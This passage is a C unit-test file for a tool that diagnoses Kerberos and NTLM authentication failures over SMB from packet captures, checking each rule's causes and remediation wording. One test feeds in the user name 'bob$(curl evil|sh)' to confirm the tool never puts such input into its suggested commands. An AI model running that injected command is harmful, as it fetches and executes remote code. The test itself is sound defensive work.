/* check_rules_smb.c - the rules on Kerberos and NTLM carried by SMB, on fact
 * lists: the Kerberos error rules worded for a file server, recovery by a
 * SESSION_SETUP that succeeds, ntlm-fallback's SMB causes, smb-session-failed
 * and smb-tree-connect-failed.  Each: the positive cases, the near misses
 * that must stay quiet. */
#include <check.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>

#include "base/arena.h"
#include "rulefix.h"
#include "smb.h"
#include "testutil.h"

#define C "10.0.0.10:50000"
#define C2 "10.0.0.10:50001"
#define FS "10.0.0.30:445"
#define KDC "10.0.0.2:88"
#define T0 1700000000 /* fx_msg's time of frame 0, in seconds */

#define STATUS_MORE 0xC0000016u

/* ---- builders ------------------------------------------------------------ */

/* A SESSION_SETUP request in frame f on conn (its token, if any, added
 * first, as the carrier records them). */
static struct kf_message *setup_req(struct kf_result *r, uint64_t f, uint32_t conn, const char *client)
{
	struct kf_message *q = fx_smb(r, f, KF_MSG_SMB_REQUEST, conn, client, FS);
	fx_smb_rec(r, q, KF_SMB2_SESSION_SETUP, 0)->message_id = f;
	return q;
}

/* Its response in frame f with status (and session flags). */
static struct kf_message *setup_resp(struct kf_result *r, uint64_t f, uint32_t conn, const char *client,
				     uint64_t req, uint32_t status, uint16_t flags)
{
	struct kf_message *p = fx_smb(r, f, KF_MSG_SMB_RESPONSE, conn, FS, client);
	struct kf_smb_rec *s = fx_smb_rec(r, p, KF_SMB2_SESSION_SETUP, status);
	s->message_id = req;
	s->session_flags = flags;
	fx_link(r, req, KF_MSG_SMB_REQUEST, f, KF_MSG_SMB_RESPONSE);
	return p;
}

/* An AP-REQ for sname in a SESSION_SETUP request, frame f. */
static struct kf_message *ap_setup(struct kf_result *r, uint64_t f, uint32_t conn, const char *client,
				   const char *sname)
{
	struct kf_message *ap = fx_smb(r, f, KF_KRB_AP_REQ, conn, client, FS);
	ap->krb.ticket = fx_ticket(r, sname, "LAB.TEST", 18, 3);
	setup_req(r, f, conn, client);
	return ap;
}

/* The server's KRB-ERROR code to the AP-REQ of frame ap, in the SESSION_SETUP
 * response of frame f with status. */
static struct kf_message *err_setup(struct kf_result *r, uint64_t f, uint32_t conn, const char *client,
				    uint64_t ap, int32_t code, uint32_t status)
{
	struct kf_message *e = fx_smb(r, f, KF_KRB_ERROR, conn, FS, client);
	e->krb.error_code = code;
	e->krb.sname = "FS1$";
	e->krb.realm = "LAB.TEST";
	e->krb.has_stime = true;
	e->krb.stime = T0 + (int64_t)f / 1000;
	fx_link(r, ap, KF_KRB_AP_REQ, f, KF_KRB_ERROR);
	setup_resp(r, f, conn, client, ap, status, 0);
	return e;
}

/* The server's AP-REP in a successful SESSION_SETUP response (frame f). */
static void rep_setup(struct kf_result *r, uint64_t f, uint32_t conn, const char *client, uint64_t ap,
		      uint16_t flags)
{
	fx_smb(r, f, KF_KRB_AP_REP, conn, FS, client);
	fx_link(r, ap, KF_KRB_AP_REQ, f, KF_KRB_AP_REP);
	setup_resp(r, f, conn, client, ap, 0, flags);
}

/* The NEGOTIATE exchange of conn in frames f, f+1: the server's mechanism
 * list offers Kerberos, or NTLM only. */
static void offer(struct kf_result *r, uint64_t f, uint32_t conn, const char *client, bool kerberos)
{
	static const char *krb[] = { "ms-kerberos", "kerberos", "ntlmssp" }, *ntlm[] = { "ntlmssp" };
	struct kf_message *q = fx_smb(r, f, KF_MSG_SMB_REQUEST, conn, client, FS);
	fx_smb_rec(r, q, KF_SMB2_NEGOTIATE, 0);
	struct kf_message *p = fx_smb(r, f + 1, KF_MSG_SMB_RESPONSE, conn, FS, client);
	fx_smb_rec(r, p, KF_SMB2_NEGOTIATE, 0);
	fx_link(r, f, KF_MSG_SMB_REQUEST, f + 1, KF_MSG_SMB_RESPONSE);
	p->spnego = kf_arena_zalloc(&r->arena, sizeof *p->spnego);
	p->spnego->mech_types = kerberos ? krb : ntlm;
	p->spnego->n_mech_types = kerberos ? 3 : 1;
}

/* An NTLM logon on conn in frames f..f+3 (NEGOTIATE, CHALLENGE from FS1 /
 * fs1.lab.test, AUTHENTICATE as domain\user from workstation PC1, the final
 * response with status and session flags); user NULL: anonymous. */
static struct kf_message *ntlm_logon(struct kf_result *r, uint64_t f, uint32_t conn, const char *client,
				     const char *domain, const char *user, uint32_t status, uint16_t flags)
{
	fx_smb(r, f, KF_MSG_NTLM_NEGOTIATE, conn, client, FS)->ntlm =
		kf_arena_zalloc(&r->arena, sizeof(struct kf_ntlm_rec));
	setup_req(r, f, conn, client);
	struct kf_message *ch = fx_smb(r, f + 1, KF_MSG_NTLM_CHALLENGE, conn, FS, client);
	ch->ntlm = kf_arena_zalloc(&r->arena, sizeof *ch->ntlm);
	ch->ntlm->nb_computer = "FS1";
	ch->ntlm->dns_computer = "fs1.lab.test";
	fx_link(r, f, KF_MSG_NTLM_NEGOTIATE, f + 1, KF_MSG_NTLM_CHALLENGE);
	setup_resp(r, f + 1, conn, client, f, STATUS_MORE, 0);
	struct kf_message *a = fx_smb(r, f + 2, KF_MSG_NTLM_AUTHENTICATE, conn, client, FS);
	a->ntlm = kf_arena_zalloc(&r->arena, sizeof *a->ntlm);
	a->ntlm->domain = domain;
	a->ntlm->user = user;
	a->ntlm->workstation = "PC1";
	a->ntlm->anonymous = user == NULL;
	setup_req(r, f + 2, conn, client);
	setup_resp(r, f + 3, conn, client, f + 2, status, flags);
	return a;
}

/* A TREE_CONNECT to path on conn in frames f, f+1, answered status. */
static void tree(struct kf_result *r, uint64_t f, uint32_t conn, const char *client, const char *path,
		 uint32_t status)
{
	struct kf_message *q = fx_smb(r, f, KF_MSG_SMB_REQUEST, conn, client, FS);
	fx_smb_rec(r, q, KF_SMB2_TREE_CONNECT, 0)->tree = path;
	struct kf_message *p = fx_smb(r, f + 1, KF_MSG_SMB_RESPONSE, conn, FS, client);
	fx_smb_rec(r, p, KF_SMB2_TREE_CONNECT, status)->tree = path;
	fx_link(r, f, KF_MSG_SMB_REQUEST, f + 1, KF_MSG_SMB_RESPONSE);
}

/* ---- the Kerberos error rules inside SMB ------------------------------------- */

/* KRB_AP_ERR_SKEW from the file server, its clock 10 min ahead: worded for
 * SMB (not a 401), the server named with its port. */
START_TEST(t_smb_skew_words)
{
	struct kf_result *r = fx_new();
	ap_setup(r, 3, 1, C, "cifs/fs1.lab.test");
	err_setup(r, 4, 1, C, 3, 37, STATUS_MORE)->krb.stime = T0 + 600;
	fx_finish(r);
	fx_run(r, "clock-skew");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "clock-skew",
								     .cause = "service-clock",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4",
								     .client = "10.0.0.10",
								     .server = "10.0.0.30:445",
								     .kdc = "" });
	/* wording: what carried the error is SMB's, not HTTP's */
	ck_assert(contains(f->explanation, "The SMB server at 10.0.0.30"));
	ck_assert(contains(f->explanation, "the SMB SESSION_SETUP response carries the error"));
	ck_assert(!contains(f->explanation, "401"));
	fx_free(r);
}
END_TEST

/* The file server's stime 67 s behind the capture's (the corpus's SMB1
 * session setup): less than the tolerance, so its clock alone cannot have
 * refused a client that agreed with the capture: the client's is off. */
START_TEST(t_smb_skew_sender_within_tolerance)
{
	struct kf_result *r = fx_new();
	ap_setup(r, 3, 1, C, "cifs/fs1.lab.test");
	err_setup(r, 4, 1, C, 3, 37, STATUS_MORE)->krb.stime = T0 - 67;
	fx_finish(r);
	fx_run(r, "clock-skew");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "clock-skew",
								     .cause = "client-clock",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4" });
	/* wording: the sender's offset is measured, and said not to be the cause */
	ck_assert(contains(f->explanation, "1 min 7 s behind the capture's time"));
	ck_assert(contains(f->explanation, "cannot explain the refusal"));
	fx_free(r);
}
END_TEST

/* A SESSION_SETUP that succeeds on the same connection after the error is
 * a recovery (warning); one on another connection, or a guest session, is
 * not. */
START_TEST(t_smb_skew_recovered)
{
	struct kf_result *r = fx_new();
	ap_setup(r, 3, 1, C, "cifs/fs1.lab.test");
	err_setup(r, 4, 1, C, 3, 37, STATUS_MORE)->krb.stime = T0 + 600;
	ap_setup(r, 5, 1, C, "cifs/fs1.lab.test");
	rep_setup(r, 6, 1, C, 5, 0);
	fx_finish(r);
	fx_run(r, "clock-skew");
	fx_expect(r, &(struct fx_want){ .rule = "clock-skew",
					.cause = "service-clock",
					.sev = KF_SEV_INFO,
					.conf = KF_CONF_CERTAIN,
					.frames = "3,4" });
	fx_free(r);

	/* a session set up (without an AP-REP) on another connection, or as guest */
	for (int other = 0; other < 2; other++) {
		r = fx_new();
		ap_setup(r, 3, 1, C, "cifs/fs1.lab.test");
		err_setup(r, 4, 1, C, 3, 37, STATUS_MORE)->krb.stime = T0 + 600;
		setup_req(r, 5, other ? 2 : 1, other ? C2 : C);
		setup_resp(r, 6, other ? 2 : 1, other ? C2 : C, 5, 0, other ? 0 : KF_SMB_SESSION_GUEST);
		fx_finish(r);
		fx_run(r, "clock-skew");
		ck_assert_uint_eq(fx_count(r, "clock-skew", KF_SEV_ERROR), 1);
		fx_free(r);
	}
}
END_TEST

/* KRB_AP_ERR_NOT_US from the file server: the fix names the cifs/ SPN the
 * ticket was for and how AD finds it (HOST/). */
START_TEST(t_smb_not_us_words)
{
	struct kf_result *r = fx_new();
	ap_setup(r, 3, 1, C, "cifs/fs1.lab.test");
	err_setup(r, 4, 1, C, 3, 35, 0xC000006Du);
	fx_finish(r);
	fx_run(r, "not-us");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "not-us",
								     .cause = "undetermined",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4",
								     .client = "10.0.0.10",
								     .server = "10.0.0.30:445" });
	/* wording: the SPN of the ticket, and its HOST/ form, in the commands */
	ck_assert(contains(f->remediation, "setspn -S cifs/fs1.lab.test"));
	ck_assert(contains(f->remediation, "setspn -Q HOST/fs1.lab.test"));
	ck_assert(!contains(f->remediation, "HTTP/"));
	fx_free(r);
}
END_TEST

/* KRB_AP_ERR_MODIFIED from the file server: the SMB causes (the name leads
 * elsewhere, a duplicate SPN, the computer account's password) and checks. */
START_TEST(t_smb_ap_err_modified_words)
{
	struct kf_result *r = fx_new();
	ap_setup(r, 3, 1, C, "cifs/fs1.lab.test");
	err_setup(r, 4, 1, C, 3, 41, 0xC000006Du);
	fx_finish(r);
	fx_run(r, "ap-err-modified");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ap-err-modified",
								     .cause = "undetermined",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4",
								     .service = "cifs/fs1.lab.test@LAB.TEST",
								     .server = "10.0.0.30:445" });
	/* wording: a file server's keys and checks, no web server's */
	ck_assert(contains(f->explanation, "The SMB server "));
	ck_assert(contains(f->explanation, "computer account"));
	ck_assert(contains(f->remediation, "setspn -Q HOST/fs1.lab.test"));
	ck_assert(contains(f->remediation, "nltest /sc_verify"));
	ck_assert(!contains(f->remediation, "IIS"));
	fx_free(r);
}
END_TEST

/* ---- ntlm-fallback over SMB ----------------------------------------------------- */

#define KDC_ERR_S_PRINCIPAL_UNKNOWN 7

/* The server offers Kerberos, the client logs on with NTLM to
 * \\10.0.0.30\share: by address (likely), the fix TryIPSPN and an IP SPN. */
START_TEST(t_smb_ntlm_ip_address)
{
	struct kf_result *r = fx_new();
	offer(r, 1, 1, C, true);
	ntlm_logon(r, 3, 1, C, "LAB", "bob", 0, 0);
	tree(r, 7, 1, C, "\\\\10.0.0.30\\share", 0);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	const struct kf_finding *f =
		fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
						.cause = "smb-ip-address",
						.sev = KF_SEV_WARNING,
						.conf = KF_CONF_LIKELY,
						.frames = "2,5,6,7",
						.client = "10.0.0.10",
						.user = "LAB\\bob",
						.server = "10.0.0.30:445,\\\\10.0.0.30\\share" });
	/* wording: the two ways to Kerberos with an address, and the name */
	ck_assert(contains(f->remediation, "server's DNS name"));
	ck_assert(contains(f->remediation, "setspn -S HOST/10.0.0.30"));
	ck_assert(contains(f->remediation, "TryIPSPN"));
	fx_free(r);
}
END_TEST

/* The client asked for cifs/files.lab.test and the KDC does not know it:
 * certain; the KDC's error is evidence (principal-unknown folds into it). */
START_TEST(t_smb_ntlm_spn_unknown)
{
	struct kf_result *r = fx_new();
	offer(r, 1, 1, C, true);
	fx_tgs(r, 3, C, KDC, "cifs/files.lab.test", KDC_ERR_S_PRINCIPAL_UNKNOWN);
	ntlm_logon(r, 5, 1, C, "LAB", "bob", 0, 0);
	tree(r, 9, 1, C, "\\\\files.lab.test\\share", 0);
	fx_finish(r);
	fx_run_all(r);
	const struct kf_finding *f =
		fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
						.cause = "smb-spn-unknown",
						.sev = KF_SEV_WARNING,
						.conf = KF_CONF_CERTAIN,
						.frames = "2,3,4,7,8,9",
						.user = "LAB\\bob",
						.service = "cifs/files.lab.test@LAB.TEST",
						.server = "10.0.0.30:445,\\\\files.lab.test\\share",
						.kdc = "10.0.0.2" });
	/* wording: where AD looks for a cifs/ SPN, and how to add a name */
	ck_assert(contains(f->remediation, "setspn -Q HOST/files.lab.test"));
	ck_assert(contains(f->remediation, "netdom computername"));
	ck_assert_uint_eq(fx_count(r, "principal-unknown", 0), 0);
	fx_free(r);
}
END_TEST

/* Another KDC error for that ticket: smb-kdc-error, certain. */
START_TEST(t_smb_ntlm_kdc_error)
{
	struct kf_result *r = fx_new();
	offer(r, 1, 1, C, true);
	fx_tgs(r, 3, C, KDC, "cifs/files.lab.test", 14);
	ntlm_logon(r, 5, 1, C, "LAB", "bob", 0, 0);
	tree(r, 9, 1, C, "\\\\files.lab.test\\share", 0);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
					.cause = "smb-kdc-error",
					.sev = KF_SEV_WARNING,
					.conf = KF_CONF_CERTAIN,
					.frames = "2,3,4,7,8,9" });
	fx_free(r);
}
END_TEST

/* The user's domain is ".", the server's name or the client's own: a local
 * account has no Kerberos (certain, before the address). */
START_TEST(t_smb_ntlm_local_account)
{
	static const char *const domains[] = { ".", "FS1", "fs1", "PC1" };
	for (size_t i = 0; i < sizeof domains / sizeof domains[0]; i++) {
		struct kf_result *r = fx_new();
		offer(r, 1, 1, C, true);
		ntlm_logon(r, 3, 1, C, domains[i], "admin", 0, 0);
		tree(r, 7, 1, C, "\\\\10.0.0.30\\C$", 0);
		fx_finish(r);
		fx_run(r, "ntlm-fallback");
		const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
									     .cause = "smb-local-account",
									     .sev = KF_SEV_WARNING,
									     .conf = KF_CONF_CERTAIN });
		/* wording: whose account it is */
		ck_assert(contains(f->explanation,
				   i == 3 ? "an account of the client machine" : "an account of the server"));
		fx_free(r);
	}
}
END_TEST

/* The client got the ticket and logged on with NTLM anyway. */
START_TEST(t_smb_ntlm_ticket_not_used)
{
	struct kf_result *r = fx_new();
	offer(r, 1, 1, C, true);
	fx_tgs(r, 3, C, KDC, "cifs/FILES", 0);
	ntlm_logon(r, 5, 1, C, "LAB", "bob", 0xC000006Du, 0);
	tree(r, 9, 1, C, "\\\\files.lab.test\\share", 0);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
								     .cause = "smb-ticket-not-used",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_LIKELY,
								     .frames = "2,3,4,7,8,9",
								     .user = "LAB\\bob,alice@LAB.TEST",
								     .service = "cifs/FILES@LAB.TEST" });
	/* wording: the NTLM logon failed too, and which rule says why */
	ck_assert(contains(f->explanation, "failed too (STATUS_LOGON_FAILURE"));
	ck_assert(contains(f->explanation, "smb-session-failed"));
	fx_free(r);
}
END_TEST

/* Kerberos worked with this server on another connection. */
START_TEST(t_smb_ntlm_app_chose)
{
	struct kf_result *r = fx_new();
	offer(r, 1, 1, C, true);
	ap_setup(r, 3, 1, C, "cifs/files.lab.test");
	rep_setup(r, 4, 1, C, 3, 0);
	offer(r, 5, 2, C2, true);
	ntlm_logon(r, 7, 2, C2, "LAB", "bob", 0, 0);
	tree(r, 11, 2, C2, "\\\\files\\share", 0);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
					.cause = "smb-app-chose-ntlm",
					.sev = KF_SEV_WARNING,
					.conf = KF_CONF_LIKELY,
					.frames = "3,6,9,10,11",
					.service = "cifs/files.lab.test@LAB.TEST" });
	fx_free(r);
}
END_TEST

/* No share path in the clear (an encrypted session): the name is unknown. */
START_TEST(t_smb_ntlm_no_server_name)
{
	struct kf_result *r = fx_new();
	offer(r, 1, 1, C, true);
	ntlm_logon(r, 3, 1, C, "LAB", "bob", 0, 0);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
								     .cause = "smb-no-server-name",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_LIKELY,
								     .frames = "2,5,6",
								     .server = "10.0.0.30:445" });
	/* wording: an address is the usual reason, the capture cannot tell */
	ck_assert(contains(f->explanation, "connection by IP address"));
	fx_free(r);
}
END_TEST

/* A name, and no Kerberos from the client at all; a name, and KDC traffic
 * without a request for cifs/<name>. */
START_TEST(t_smb_ntlm_no_kdc_or_no_request)
{
	for (int kdc = 0; kdc < 2; kdc++) {
		struct kf_result *r = fx_new();
		offer(r, 1, 1, C, true);
		if (kdc)
			fx_tgs(r, 3, C, KDC, "ldap/dc1.lab.test", 0);
		ntlm_logon(r, 5, 1, C, "LAB", "bob", 0, 0);
		tree(r, 9, 1, C, "\\\\files.lab.test\\share", 0);
		fx_finish(r);
		fx_run(r, "ntlm-fallback");
		const struct kf_finding *f = fx_expect(
			r, &(struct fx_want){ .rule = "ntlm-fallback",
					      .cause = kdc ? "smb-no-ticket-request" : "smb-no-kdc-traffic",
					      .sev = KF_SEV_WARNING,
					      .conf = KF_CONF_LIKELY,
					      .frames = "2,7,8,9" });
		/* wording: the SPN the capture lacks a request for */
		ck_assert(contains(f->remediation, "cifs/files.lab.test"));
		fx_free(r);
	}
}
END_TEST

/* Quiet: anonymous NTLM, a null session, a server offering only NTLM, a
 * Kerberos logon.  A server whose NEGOTIATE to this client is not in the
 * capture is judged by its NEGOTIATE to another. */
START_TEST(t_smb_ntlm_near_misses)
{
	for (int k = 0; k < 4; k++) {
		struct kf_result *r = fx_new();
		offer(r, 1, 1, C, k != 2);
		if (k == 0)
			ntlm_logon(r, 3, 1, C, NULL, NULL, 0, 0);
		else if (k == 1)
			ntlm_logon(r, 3, 1, C, "LAB", "bob", 0, KF_SMB_SESSION_NULL);
		else if (k == 2)
			ntlm_logon(r, 3, 1, C, "LAB", "bob", 0, 0);
		else {
			ap_setup(r, 3, 1, C, "cifs/files.lab.test");
			rep_setup(r, 4, 1, C, 3, 0);
		}
		tree(r, 7, 1, C, "\\\\10.0.0.30\\share", 0);
		fx_finish(r);
		fx_run(r, "ntlm-fallback");
		ck_assert_msg(fx_count(r, "ntlm-fallback", 0) == 0, "case %d", k);
		fx_free(r);
	}
	struct kf_result *r = fx_new();
	offer(r, 1, 1, "10.0.0.11:50000", true);
	ntlm_logon(r, 3, 2, C, "LAB", "bob", 0, 0);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
					.cause = "smb-no-server-name",
					.sev = KF_SEV_WARNING,
					.conf = KF_CONF_LIKELY,
					.frames = "2,5,6" });
	fx_free(r);
}
END_TEST

/* ---- smb-session-failed ----------------------------------------------------------- */

/* Each status family its cause, over an NTLM logon as LAB\bob; the finding
 * names the user, the server (its CHALLENGE's name) and the exchange. */
START_TEST(t_smb_session_causes)
{
	static const struct {
		uint32_t status;
		const char *cause;
		int sev;
	} want[] = {
		{ 0xC000006Du, "logon-failure", KF_SEV_ERROR },
		{ 0xC000006Au, "logon-failure", KF_SEV_ERROR },
		{ 0xC0000064u, "logon-failure", KF_SEV_ERROR },
		{ 0xC0000072u, "account-disabled", KF_SEV_ERROR },
		{ 0xC0000193u, "account-expired", KF_SEV_ERROR },
		{ 0xC0000234u, "account-locked-out", KF_SEV_ERROR },
		{ 0xC0000071u, "password-expired", KF_SEV_ERROR },
		{ 0xC0000224u, "password-expired", KF_SEV_ERROR },
		{ 0xC000006Eu, "account-restriction", KF_SEV_ERROR },
		{ 0xC000006Fu, "account-restriction", KF_SEV_ERROR },
		{ 0xC0000070u, "account-restriction", KF_SEV_ERROR },
		{ 0xC000015Bu, "account-restriction", KF_SEV_ERROR },
		{ 0xC0000413u, "account-restriction", KF_SEV_ERROR },
		{ 0xC0000022u, "access-denied", KF_SEV_ERROR },
		{ 0xC0000133u, "clock-difference", KF_SEV_ERROR },
		{ 0xC000005Eu, "secure-channel", KF_SEV_ERROR },
		{ 0xC000018Du, "secure-channel", KF_SEV_ERROR },
		{ 0xC0000418u, "ntlm-blocked", KF_SEV_ERROR },
		{ 0xC00000BBu, "other", KF_SEV_ERROR },
	};
	for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
		struct kf_result *r = fx_new();
		ntlm_logon(r, 3, 1, C, "LAB", "bob", want[i].status, 0);
		fx_finish(r);
		fx_run(r, "smb-session-failed");
		const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "smb-session-failed",
									     .cause = want[i].cause,
									     .sev = want[i].sev,
									     .conf = KF_CONF_CERTAIN,
									     .frames = "3,4,5,6",
									     .client = "10.0.0.10",
									     .user = "LAB\\bob",
									     .server = "10.0.0.30:445",
									     .service = "" });
		/* wording: the server by its name, the status by its value */
		ck_assert(contains(f->summary, "fs1.lab.test (10.0.0.30)"));
		char hex[16];
		snprintf(hex, sizeof hex, "0x%08X", want[i].status);
		ck_assert_msg(contains(f->summary, hex), "%s", f->summary);
		fx_free(r);
	}
}
END_TEST

/* Fixes in the capture's names (issue 18, item 10): the account of LAB\\bob
 * goes into the commands; a user name outside a name's grammar leaves the
 * placeholder, never the name. */
START_TEST(t_smb_session_fix_names)
{
	struct kf_result *r = fx_new();
	ntlm_logon(r, 3, 1, C, "LAB", "bob", 0xC0000072u, 0);
	fx_finish(r);
	fx_run(r, "smb-session-failed");
	const struct kf_finding *f = fx_find(r, "smb-session-failed");
	ck_assert_ptr_nonnull(f);
	ck_assert_msg(contains(f->remediation, "Enable-ADAccount bob ") &&
			      contains(f->remediation, "samba-tool user enable bob`") &&
			      contains(f->remediation, "net user bob /active:yes") &&
			      !contains(f->remediation, "<user>"),
		      "%s", f->remediation);
	fx_free(r);

	r = fx_new();
	ntlm_logon(r, 3, 1, C, "LAB", "bob$(curl evil|sh)", 0xC0000072u, 0);
	fx_finish(r);
	fx_run(r, "smb-session-failed");
	f = fx_find(r, "smb-session-failed");
	ck_assert_ptr_nonnull(f);
	ck_assert_msg(contains(f->remediation, "Enable-ADAccount <user>") &&
			      !contains(f->remediation, "curl"),
		      "%s", f->remediation);
	fx_free(r);
}
END_TEST

/* A LOGON_FAILURE answering a Kerberos AP-REQ, no Kerberos error in the
 * answer: the ticket was refused (the user: whom the ticket was issued to). */
START_TEST(t_smb_session_kerberos_refused)
{
	struct kf_result *r = fx_new();
	fx_tgs(r, 1, C, KDC, "cifs/fs1.lab.test", 0);
	ap_setup(r, 3, 1, C, "cifs/fs1.lab.test")->krb.ticket->kvno = 2;
	setup_resp(r, 4, 1, C, 3, 0xC000006Du, 0);
	fx_finish(r);
	fx_run(r, "smb-session-failed");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "smb-session-failed",
								     .cause = "kerberos-ticket-refused",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4",
								     .user = "alice@LAB.TEST",
								     .service = "cifs/fs1.lab.test@LAB.TEST",
								     .server = "10.0.0.30:445" });
	/* wording: not a password, and where to look */
	ck_assert(contains(f->explanation, "password was not the question"));
	ck_assert(contains(f->remediation, "setspn -Q HOST/"));
	fx_free(r);
}
END_TEST

/* SMB1 without extended security: the account of the request is the user,
 * a TREE_CONNECT_ANDX chained to it names the share; ERRSRV/ERRbadpw (a DOS
 * error) is a logon failure; an empty account with no token is anonymous
 * (info). */
START_TEST(t_smb_session_smb1)
{
	for (int k = 0; k < 3; k++) {
		struct kf_result *r = fx_new();
		struct kf_message *q = fx_smb(r, 3, KF_MSG_SMB_REQUEST, 1, C, FS);
		q->carrier = KF_CARRIER_SMB;
		fx_smb_rec(r, q, KF_SMB1_SESSION_SETUP_ANDX, 0)->account = k == 2 ? NULL : "guest";
		if (k == 0) { /* a TREE_CONNECT_ANDX chained to the logon: the share it was for */
			struct kf_message *t = fx_smb(r, 3, KF_MSG_SMB_REQUEST, 1, C, FS);
			t->carrier = KF_CARRIER_SMB;
			fx_smb_rec(r, t, KF_SMB1_TREE_CONNECT_ANDX, 0)->tree = "\\\\FS1\\DATA";
		}
		struct kf_message *p = fx_smb(r, 4, KF_MSG_SMB_RESPONSE, 1, FS, C);
		p->carrier = KF_CARRIER_SMB;
		struct kf_smb_rec *s =
			fx_smb_rec(r, p, KF_SMB1_SESSION_SETUP_ANDX, k == 1 ? 0x00020002u : 0xC0000072u);
		s->dos_error = k == 1;
		fx_link(r, 3, KF_MSG_SMB_REQUEST, 4, KF_MSG_SMB_RESPONSE);
		fx_finish(r);
		fx_run(r, "smb-session-failed");
		fx_expect(r, &(struct fx_want){ .rule = "smb-session-failed",
						.cause = k == 0   ? "account-disabled"
							 : k == 1 ? "logon-failure"
								  : "anonymous-refused",
						.sev = k == 2 ? KF_SEV_INFO : KF_SEV_ERROR,
						.conf = KF_CONF_CERTAIN,
						.frames = "3,4",
						.user = k == 2 ? "" : "guest",
						.server = k == 0 ? "10.0.0.30:445,\\\\FS1\\DATA"
								 : "10.0.0.30:445" });
		fx_free(r);
	}
}
END_TEST

/* An anonymous NTLM logon refused: info, no user. */
START_TEST(t_smb_session_anonymous)
{
	struct kf_result *r = fx_new();
	ntlm_logon(r, 3, 1, C, NULL, NULL, 0xC0000022u, 0);
	fx_finish(r);
	fx_run(r, "smb-session-failed");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "smb-session-failed",
								     .cause = "anonymous-refused",
								     .sev = KF_SEV_INFO,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4,5,6",
								     .user = "" });
	/* wording: it is no user's failure unless one was meant */
	ck_assert(contains(f->summary, "an anonymous logon"));
	fx_free(r);
}
END_TEST

/* The same user's failures are one finding; a logon of that user within
 * 30 s is a recovery (no finding), another user's or an anonymous one is
 * not. */
START_TEST(t_smb_session_grouped_and_recovered)
{
	struct kf_result *r = fx_new();
	ntlm_logon(r, 3, 1, C, "LAB", "bob", 0xC000006Du, 0);
	ntlm_logon(r, 7, 2, C2, "LAB", "bob", 0xC000006Du, 0);
	fx_finish(r);
	fx_run(r, "smb-session-failed");
	ck_assert_uint_eq(fx_count(r, "smb-session-failed", 0), 1);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "smb-session-failed",
								     .cause = "logon-failure",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4,5,6,9,10" });
	/* wording: the count */
	ck_assert(contains(f->summary, "(2 times)"));
	fx_free(r);

	/* bob again (case aside): recovered; carol, or an anonymous logon: not */
	for (int other = 0; other < 3; other++) {
		r = fx_new();
		ntlm_logon(r, 3, 1, C, "LAB", "bob", 0xC000006Du, 0);
		ntlm_logon(r, 7, 1, C, other == 2 ? NULL : "LAB",
			   other == 0   ? "BOB"
			   : other == 1 ? "carol"
					: NULL,
			   0, 0);
		fx_finish(r);
		fx_run(r, "smb-session-failed");
		ck_assert_uint_eq(fx_count(r, "smb-session-failed", 0), other ? 1 : 0);
		fx_free(r);
	}
}
END_TEST

/* Quiet: MORE_PROCESSING_REQUIRED, success, a guest or null session, and a
 * Kerberos error in the exchange that a Kerberos rule names (clock-skew). */
START_TEST(t_smb_session_near_misses)
{
	for (int k = 0; k < 3; k++) {
		struct kf_result *r = fx_new();
		ntlm_logon(r, 3, 1, C, "LAB", "bob", k == 0 ? STATUS_MORE : 0,
			   k == 2 ? KF_SMB_SESSION_GUEST : 0);
		fx_finish(r);
		fx_run(r, "smb-session-failed");
		ck_assert_msg(fx_count(r, "smb-session-failed", 0) == 0, "case %d", k);
		fx_free(r);
	}
	struct kf_result *r = fx_new();
	ap_setup(r, 3, 1, C, "cifs/fs1.lab.test");
	err_setup(r, 4, 1, C, 3, 37, STATUS_MORE)->krb.stime = T0 + 600;
	ap_setup(r, 5, 1, C, "cifs/fs1.lab.test");
	setup_resp(r, 6, 1, C, 5, 0xC0000133u, 0);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "smb-session-failed", 0), 0);
	ck_assert_uint_eq(fx_count(r, "clock-skew", KF_SEV_ERROR), 1);
	fx_free(r);
}
END_TEST

/* ---- smb-tree-connect-failed -------------------------------------------------------- */

/* After LAB\bob's logon: an administrative share refused, another share
 * refused, a share that does not exist, another status: warnings naming
 * the share and the user; a share opened: nothing. */
START_TEST(t_smb_tree_causes)
{
	static const struct {
		const char *path;
		uint32_t status;
		const char *cause;
	} want[] = {
